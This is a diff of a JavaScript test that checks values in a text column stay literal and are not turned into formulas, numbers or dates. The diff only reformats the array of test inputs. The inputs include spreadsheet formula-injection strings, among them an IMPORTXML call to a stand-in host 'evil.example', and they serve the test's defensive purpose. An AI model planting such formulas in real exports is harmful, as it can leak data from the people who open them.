@@ -76,7 +76,19 @@ describe('an event', () => {
   it('is never a formula', async () => {
     const it = await lab.organization();
     // Nor a number or a date, in a column of texts.
-    const texts = ['2026-11-21', '0042', '+919876543210', '=1+1', '=IMPORTXML("http://evil.example","//a")', '+1+1', '-2', '@SUM(A1)', "'quoted", '007', '\t=1'];
+    const texts = [
+      '2026-11-21',
+      '0042',
+      '+919876543210',
+      '=1+1',
+      '=IMPORTXML("http://evil.example","//a")',
+      '+1+1',
+      '-2',
+      '@SUM(A1)',
+      "'quoted",
+      '007',
+      '\t=1',
+    ];
     await lab.happen(it, ...texts);
     await lab.settle(it);
     expect(lab.names(it)).toEqual(texts);
